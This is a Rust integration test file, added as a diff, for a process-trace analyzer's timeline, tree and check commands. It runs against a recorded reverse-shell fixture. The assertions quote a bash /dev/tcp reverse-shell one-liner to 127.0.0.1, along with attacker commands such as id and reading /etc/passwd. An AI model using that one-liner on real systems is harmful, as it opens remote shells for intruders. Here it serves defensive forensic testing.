@@ -1,0 +1,303 @@
+//! `timeline`, `tree` and `check` end to end on the committed fixtures: every fixture's
+//! outputs equal its committed expectations (so they are byte-identical run to run), the
+//! reverse-shell story is told, filters and formats work, bad input fails clearly.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+fn root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
+}
+
+fn analyzer(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_analyzer"))
+        .args(args)
+        .current_dir(root())
+        .env("NO_COLOR", "1")
+        .output()
+        .expect("run analyzer")
+}
+
+fn text(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).into_owned()
+}
+
+/// Every `fixtures/*.zst` (and the synthetic trace) with its expectations directory.
+fn fixtures() -> Vec<(Vec<String>, String)> {
+    let mut out = Vec::new();
+    let dir = root().join("fixtures");
+    let mut names: Vec<String> = std::fs::read_dir(&dir)
+        .expect("fixtures dir")
+        .filter_map(|e| e.ok())
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.ends_with(".zst"))
+        .collect();
+    names.sort();
+    for n in names {
+        let stem = n.trim_end_matches(".zst").to_string();
+        out.push((
+            vec![format!("fixtures/{n}")],
+            format!("fixtures/expected/{stem}"),
+        ));
+    }
+    out.push((
+        vec![
+            "fixtures/synthetic/reverse-shell.zst".into(),
+            "fixtures/synthetic/reverse-shell.000002.zst".into(),
+        ],
+        "fixtures/synthetic/expected/reverse-shell".into(),
+    ));
+    out
+}
+
+#[test]
+fn every_fixture_matches_its_expectations() {
+    let all = fixtures();
+    assert!(all.len() >= 10, "{all:?}");
+    let mut failures = Vec::new();
+    for (inputs, expect) in &all {
+        let mut args = vec!["check"];
+        args.extend(inputs.iter().map(String::as_str));
+        args.extend(["--expect", expect]);
+        let out = analyzer(&args);
+        if out.status.code() != Some(0) {
+            failures.push(format!(
+                "{inputs:?}:\n{}{}",
+                text(&out.stdout),
+                text(&out.stderr)
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn check_prints_a_diff_and_fails_when_an_output_changes() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let exp = dir.path().join("exp");
+    let src = root().join("fixtures/expected/reverse-shell");
+    std::fs::create_dir(&exp).expect("mkdir");
+    for f in ["timeline.txt", "timeline-ancestry.txt", "tree.txt"] {
+        let mut body = std::fs::read_to_string(src.join(f)).expect("read");
+        if f == "tree.txt" {
+            body = body.replace("uname -a", "uname -r");
+        }
+        std::fs::write(exp.join(f), body).expect("write");
+    }
+    let out = analyzer(&[
+        "check",
+        "fixtures/reverse-shell.zst",
+        "--expect",
+        exp.to_str().expect("utf8"),
+    ]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
+    let o = text(&out.stdout);
+    assert!(o.contains("DIFFERS") && o.contains("tree.txt"), "{o}");
+    assert!(
+        o.contains("-|  ") && o.contains("uname -r") && o.contains("+|"),
+        "{o}"
+    );
+    assert!(
+        text(&out.stderr).contains("1 of 3 outputs differ"),
+        "{}",
+        text(&out.stderr)
+    );
+}
+
+#[test]
+fn reverse_shell_story_is_told() {
+    let out = analyzer(&["timeline", "fixtures/reverse-shell.zst"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let t = text(&out.stdout);
+    let find = |needle: &str| {
+        t.find(needle)
+            .unwrap_or_else(|| panic!("{needle:?} not in timeline:\n{t}"))
+    };
+    // The web app spawns a shell, which connects back; the listener accepts it; the
+    // attacker's commands come in over the socket and run.
+    let spawn = find("sh[16032]            exec /bin/sh");
+    assert!(t[spawn..].contains("parent python3[16031]"));
+    let connect = find("bash[16033]          connected to 127.0.0.1:14444 (tcp)");
+    let accept = find("python3[16029]       accepted tcp connection from 127.0.0.1:42680");
+    let cmd = find("python3[16029]       sent \"id\\n\" to 127.0.0.1:42680");
+    let id = find("id[16034]            exec /usr/bin/id: id  (parent bash[16033]");
+    assert!(spawn < connect && connect < accept && accept < cmd && cmd < id);
+    find("cat[16036]           read /etc/passwd");
+    find("no loss reported");
+}
+
+#[test]
+fn filters_formats_and_ancestry() {
+    // Process tree of the web app: its shell and the attacker's commands, not the
+    // listener.
+    let out = analyzer(&[
+        "timeline",
+        "fixtures/reverse-shell.zst",
+        "--process-tree",
+        "16031",
+        "--type",
+        "process",
+    ]);
+    let t = text(&out.stdout);
+    assert!(
+        t.contains("exec /usr/bin/id") && t.contains("uname -a"),
+        "{t}"
+    );
+    assert!(!t.contains("python3[16029]"), "{t}");
+    assert!(!t.contains("read /etc/passwd"), "type filter: {t}");
+
+    let out = analyzer(&[
+        "timeline",
+        "fixtures/reverse-shell.zst",
+        "--grep",
+        "ETC/PASSWD",
+        "--ancestry",
+        "--pid",
+        "16036",
+    ]);
+    let t = text(&out.stdout);
+    let lines: Vec<&str> = t
+        .lines()
+        .filter(|l| !l.starts_with("--") && !l.starts_with('#'))
+        .collect();
+    assert_eq!(lines.len(), 2, "{t}");
+    assert!(
+        lines[1].contains(
+            "cat[16036] < bash[16033] < sh[16032] < python3[16031] < bash[16022]"
+        ),
+        "{t}"
+    );
+
+    let out = analyzer(&[
+        "timeline",
+        "fixtures/reverse-shell.zst",
+        "--json",
+        "--type",
+        "network",
+    ]);
+    assert_eq!(out.status.code(), Some(0));
+    let mut n = 0;
+    for l in text(&out.stdout).lines() {
+        let v: serde_json::Value = serde_json::from_str(l).expect("json line");
+        assert!(v["time"].as_str().is_some_and(|s| s.ends_with('Z')), "{l}");
+        assert!(v["event"].is_object(), "{l}");
+        n += 1;
+    }
+    assert!(n >= 6, "{n}");
+
+    let out = analyzer(&[
+        "timeline",
+        "fixtures/reverse-shell.zst",
+        "--csv",
+        "--pid",
+        "16034",
+    ]);
+    let t = text(&out.stdout);
+    let mut r = csv::Reader::from_reader(t.as_bytes());
+    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("csv row")).collect();
+    assert!(
+        rows.iter()
+            .any(|r| &r[1] == "exec" && r[7].contains("exec /usr/bin/id")),
+        "{t}"
+    );
+
+    let out = analyzer(&[
+        "timeline",
+        "fixtures/reverse-shell.zst",
+        "--since",
+        "+1.2s",
+        "--until",
+        "2026-11-25T18:05:05.21Z",
+    ]);
+    let t = text(&out.stdout);
+    assert!(
+        t.contains("exited 0 after 1.2s") && !t.contains("rm -rf"),
+        "{t}"
+    );
+    assert!(!t.contains("exec /usr/bin/id"), "{t}");
+}
+
+#[test]
+fn tree_shows_exec_chains_and_counts() {
+    let out = analyzer(&[
+        "tree",
+        "fixtures/reverse-shell.zst",
+        "--process-tree",
+        "16031",
+    ]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let t = text(&out.stdout);
+    assert!(
+        t.starts_with("python3[16031] /usr/bin/python3 /tmp/"),
+        "{t}"
+    );
+    assert!(
+        t.contains("`- bash[16033] bash -c exec bash -i >& /dev/tcp/127.0.0.1/14444 0>&1  =>  bash -i  (1.2s, exit 0"),
+        "{t}"
+    );
+    let out = analyzer(&["tree", "fixtures/reverse-shell.zst", "--json"]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+    assert_eq!(v[0]["pid"], 16022);
+}
+
+#[test]
+fn bad_arguments_fail_clearly() {
+    let out = analyzer(&["timeline", "fixtures/reverse-shell.zst", "--type", "bogus"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        text(&out.stderr).contains("unknown event type \"bogus\""),
+        "{}",
+        text(&out.stderr)
+    );
+    let out = analyzer(&[
+        "timeline",
+        "fixtures/reverse-shell.zst",
+        "--since",
+        "yesterday",
+    ]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        text(&out.stderr).contains("bad time"),
+        "{}",
+        text(&out.stderr)
+    );
+    let out = analyzer(&["timeline", "fixtures/reverse-shell.zst", "--grep", "("]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        text(&out.stderr).contains("bad --grep pattern"),
+        "{}",
+        text(&out.stderr)
+    );
+    let out = analyzer(&[
+        "tree",
+        "fixtures/reverse-shell.zst",
+        "--process-tree",
+        "99999",
+    ]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        text(&out.stderr).contains("no process matches"),
+        "{}",
+        text(&out.stderr)
+    );
+}
+
+#[test]
+fn truncated_trace_still_tells_what_is_readable() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let cut = dir.path().join("cut.zst");
+    let bytes = std::fs::read(root().join("fixtures/reverse-shell.zst")).expect("read");
+    std::fs::write(&cut, &bytes[..bytes.len() - 1500]).expect("write");
+    let out = analyzer(&["timeline", cut.to_str().expect("utf8")]);
+    assert_eq!(out.status.code(), Some(3), "partial: {}", text(&out.stderr));
+    assert!(
+        text(&out.stderr).contains("damaged"),
+        "{}",
+        text(&out.stderr)
+    );
+    assert!(
+        text(&out.stdout).contains("connected to 127.0.0.1:14444"),
+        "{}",
+        text(&out.stdout)
+    );
+}
